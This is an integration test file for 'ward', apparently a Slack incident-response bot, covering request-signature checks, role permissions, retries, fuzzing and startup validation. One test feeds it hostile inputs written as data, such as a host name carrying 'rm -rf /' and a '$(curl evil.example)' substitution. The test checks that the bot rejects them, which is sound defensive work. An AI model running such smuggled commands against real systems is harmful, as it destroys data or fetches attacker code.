import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type FakeSlack, startFakeSlack } from '../fakes/fake-slack.js';
import { type RedisProcess, startRedis } from '../helpers/redis-server.js';
import { postToSlackEndpoint, sendSlashCommand, slashCommandBody } from '../helpers/slack-requests.js';
import { runWardExpectingFailure, startWardProcess, type WardProcess } from '../helpers/ward-process.js';

const SECRET = 'test-signing-secret-0123456789';
const TOKEN = 'xoxb-1111-2222-integration';

let slack: FakeSlack;
let redis: RedisProcess;
let ward: WardProcess;

const POLICY = `
roles:
  responder: [U0RESP1]
  admin: [U0ADMIN1]
commands:
  lockdown: { allow: [responder, admin] }
`;

beforeAll(async () => {
  slack = await startFakeSlack({ botToken: TOKEN });
  redis = await startRedis();
  const dir = mkdtempSync(join(tmpdir(), 'ward-policy-'));
  writeFileSync(join(dir, 'policy.yaml'), POLICY);
  ward = await startWardProcess({
    SLACK_BOT_TOKEN: TOKEN,
    SLACK_SIGNING_SECRET: SECRET,
    SLACK_API_URL: slack.apiUrl,
    REDIS_URL: redis.url,
    WARD_POLICY: join(dir, 'policy.yaml'),
  });
});

afterAll(async () => {
  await ward?.stop();
  await slack?.close();
  await redis?.stop();
});

const endpoint = () => `${ward.url}/slack/events`;

/** Sends `/ward <text>` and waits for the one reply on its response_url. */
async function ask(text: string, user = 'U0RESP1') {
  const responseUrl = slack.newResponseUrl();
  const res = await sendSlashCommand(endpoint(), SECRET, { text, user_id: user, response_url: responseUrl });
  expect(res.status).toBe(200);
  const reply = await slack.waitForCall('response_url', (c) => c.args['response_url'] === responseUrl);
  return {
    res,
    reply: reply.args as { text: string; response_type: string; blocks?: unknown[] },
    responseUrl,
  };
}

describe('ward answers /ward over its real HTTP endpoint', () => {
  it('answers health checks', async () => {
    const r = await fetch(`${ward.url}/healthz`);
    expect(r.status).toBe(200);
    expect(await r.json()).toEqual({ status: 'ok' });
  });

  it('/ward help lists the commands this user may run, ephemerally', async () => {
    const { reply } = await ask('help');
    expect(reply.response_type).toBe('ephemeral');
    expect(reply.text).toContain('help');
    expect(reply.text).toContain('lockdown');
    expect(reply.text).not.toContain('release'); // admin only
  });

  it('/ward help <command> shows usage, examples and policy', async () => {
    const { reply } = await ask('help lockdown');
    const blocks = JSON.stringify(reply.blocks);
    expect(blocks).toContain('/ward lockdown &lt;host|host,host&gt; --reason'); // Slack mrkdwn escaping
    expect(blocks).toContain('--dry-run');
    expect(blocks).toMatch(/Approvals/);
  });

  it('an unknown command gets "did you mean"', async () => {
    const { reply } = await ask('lokdown web1');
    expect(reply.text).toMatch(/Unknown command `lokdown`\. Did you mean `lockdown`/);
  });

  it('a bad argument gets the exact problem and the usage', async () => {
    const { reply } = await ask('block-ip web1 999.1.1.1 --reason test');
    expect(reply.text).toMatch(/`address`: must be an IPv4\/IPv6 address or CIDR/);
    expect(reply.text).toMatch(/Usage: `\/ward block-ip/);
  });

  it('refuses a user outside the allowed roles, naming the roles', async () => {
    const { reply } = await ask('lockdown web1 --reason "test"', 'U0NOBODY');
    expect(reply.text).toMatch(/You may not run `lockdown`.*\*responder\*, \*admin\*/);
  });

  it('refuses a forged signature and a stale timestamp with 401 and no reply', async () => {
    const before = slack.callsTo('response_url').length;
    const forged = await sendSlashCommand(
      endpoint(),
      SECRET,
      { text: 'help', response_url: slack.newResponseUrl() },
      { signature: `v0=${'0'.repeat(64)}` },
    );
    const wrongSecret = await sendSlashCommand(
      endpoint(),
      SECRET,
      { text: 'help', response_url: slack.newResponseUrl() },
      { secret: 'someone-elses-secret' },
    );
    const stale = await sendSlashCommand(
      endpoint(),
      SECRET,
      { text: 'help', response_url: slack.newResponseUrl() },
      { timestamp: Math.floor(Date.now() / 1000) - 6 * 60 },
    );
    expect([forged.status, wrongSecret.status, stale.status]).toEqual([401, 401, 401]);
    await ask('help'); // a genuine request afterwards is answered: the three forged ones were not
    expect(slack.callsTo('response_url').length).toBe(before + 1);
  });

  it('a Slack retry of the same command (same trigger_id) is not run twice', async () => {
    const responseUrl = slack.newResponseUrl();
    const fields = {
      text: 'help',
      user_id: 'U0RESP1',
      response_url: responseUrl,
      trigger_id: '1234567890.retry.abcdef',
    };
    const first = await sendSlashCommand(endpoint(), SECRET, fields);
    const retry = await sendSlashCommand(endpoint(), SECRET, fields, {
      retryNum: 1,
      retryReason: 'http_timeout',
    });
    expect([first.status, retry.status]).toEqual([200, 200]);
    await slack.waitForCall('response_url', (c) => c.args['response_url'] === responseUrl);
    await ask('help'); // a later request has been fully handled, so a second reply would have arrived by now
    expect(slack.callsTo('response_url').filter((c) => c.args['response_url'] === responseUrl)).toHaveLength(
      1,
    );
  });

  it('hostile text gets a clear answer and runs nothing', async () => {
    const cases: Array<[string, RegExp]> = [
      ['lockdown "web1; rm -rf /" --reason x', /`host`: must be a host name/],
      ['forensics $(curl evil.example) --reason x', /`target`: must be a host name/],
      ["lockdown 'web1' --reason \"unterminated", /Unmatched double quote/],
      [`help ${'A'.repeat(3000)}`, /ward reads at most 1500/],
      ['help\u001b[31m', /control character \(U\+001B\)/],
      // The mention comes back escaped, so it cannot ping the channel from ward's reply.
      ['<!channel> lockdown', /Unknown command `&lt;!channel&gt;`/],
    ];
    for (const [text, expected] of cases) {
      const { reply } = await ask(text);
      expect(reply.text).toMatch(expected);
      expect(reply.text).not.toContain('<!');
    }
    expect(slack.callsTo('chat.postMessage')).toHaveLength(0); // nothing was requested or run in the channel
  });

  it('acks a few hundred random command texts, answering each exactly once, and stays up', async () => {
    const alphabet =
      'abcdefghijklmnopqrstuvwxyz0123456789 -_=;|&$`\'"\\/<>(){}*?!#~\u201c\u201d\u00e9\u4e2d\u{1F600}\t';
    let seed = 42;
    const rand = (n: number) => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed % n;
    };
    const words = [
      'help',
      'lockdown',
      'forensics',
      'block-ip',
      'hosts',
      'status',
      'kill-process',
      '--reason',
      '--dry-run',
      'web1',
      'tag:web',
    ];
    const texts = Array.from({ length: 300 }, () => {
      const parts = Array.from({ length: 1 + rand(5) }, () =>
        rand(2) === 0
          ? words[rand(words.length)]
          : Array.from({ length: 1 + rand(12) }, () => [...alphabet][rand([...alphabet].length)]).join(''),
      );
      return parts.join(' ');
    });
    const urls: string[] = [];
    for (let i = 0; i < texts.length; i += 20) {
      const batch = texts.slice(i, i + 20).map(async (text) => {
        const url = slack.newResponseUrl();
        urls.push(url);
        const body = slashCommandBody({ text, user_id: 'U0RESP1', response_url: url });
        const r = await postToSlackEndpoint(endpoint(), SECRET, body, 'form');
        // Bolt's HTTP receiver answers 404 when nothing acks within ~3 s: a 200 means the ack came in time.
        expect(r.status).toBe(200);
      });
      await Promise.all(batch);
    }
    for (const url of urls) {
      await slack.waitForCall('response_url', (c) => c.args['response_url'] === url, 15_000);
    }
    for (const url of urls) {
      expect(slack.callsTo('response_url').filter((c) => c.args['response_url'] === url)).toHaveLength(1);
    }
    expect((await fetch(`${ward.url}/healthz`)).status).toBe(200);
    expect(ward.child.exitCode).toBeNull();
  });

  it('never writes the bot token or signing secret to its log', () => {
    expect(ward.output()).not.toContain(TOKEN);
    expect(ward.output()).not.toContain(SECRET);
  });
});

describe('ward start-up', () => {
  it('refuses to start on bad configuration, listing every problem without printing secrets', async () => {
    const { code, output } = await runWardExpectingFailure({
      SLACK_BOT_TOKEN: 'xoxp-user-token-SECRET',
      PORT: '70000',
      REDIS_URL: 'http://wrong',
    });
    expect(code).toBe(1);
    expect(output).toMatch(/SLACK_BOT_TOKEN: must be a bot token starting with xoxb-/);
    expect(output).toMatch(/SLACK_SIGNING_SECRET: is required/);
    expect(output).toMatch(/PORT: must be from 0 to 65535/);
    expect(output).toMatch(/REDIS_URL: must be redis:\/\//);
    expect(output).not.toContain('xoxp-user-token-SECRET');
  });

  it('refuses a policy file with errors, naming line and field', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ward-policy-'));
    writeFileSync(
      join(dir, 'policy.yaml'),
      'roles:\n  admin: [U0ADMIN1]\ncommands:\n  lockdown:\n    mfa: sometimes\n',
    );
    const { code, output } = await runWardExpectingFailure({
      SLACK_BOT_TOKEN: TOKEN,
      SLACK_SIGNING_SECRET: SECRET,
      WARD_POLICY: join(dir, 'policy.yaml'),
    });
    expect(code).toBe(1);
    expect(output).toMatch(/line 5: commands\.lockdown\.mfa: /);
  });

  it('runs on the in-process store with a warning when REDIS_URL is unset, read-only without a policy file', async () => {
    const w = await startWardProcess({
      SLACK_BOT_TOKEN: TOKEN,
      SLACK_SIGNING_SECRET: SECRET,
      SLACK_API_URL: slack.apiUrl,
    });
    try {
      expect(w.output()).toMatch(/REDIS_URL is not set: using the in-process store/);
      const url = slack.newResponseUrl();
      await sendSlashCommand(`${w.url}/slack/events`, SECRET, {
        text: 'lockdown web1 --reason x',
        user_id: 'U0RESP1',
        response_url: url,
      });
      const reply = await slack.waitForCall('response_url', (c) => c.args['response_url'] === url);
      expect(String(reply.args['text'])).toMatch(/no policy file is configured/);
    } finally {
      expect(await w.stop()).toBe(0);
    }
  });
});

describe('Socket Mode', () => {
  it('connects with an app token and answers /ward help through the socket', async () => {
    const w = await startWardProcess({
      SLACK_BOT_TOKEN: TOKEN,
      SLACK_SIGNING_SECRET: SECRET,
      SLACK_APP_TOKEN: 'xapp-1-A0FAKEAPP1-1-socket',
      SLACK_API_URL: slack.apiUrl,
    });
    try {
      await slack.socketConnected(15_000);
      const url = slack.newResponseUrl();
      const ack = await slack.sendEnvelope('slash_commands', {
        command: '/ward',
        text: 'help',
        user_id: 'U0RESP1',
        channel_id: 'C0SOCKET',
        response_url: url,
        trigger_id: '555.socket.trigger',
        team_id: 'T0FAKETEAM',
      });
      expect(ack.envelope_id).toBeTruthy();
      const reply = await slack.waitForCall('response_url', (c) => c.args['response_url'] === url);
      expect(String(reply.args['text'])).toContain('help');
    } finally {
      await w.stop();
    }
  });
});
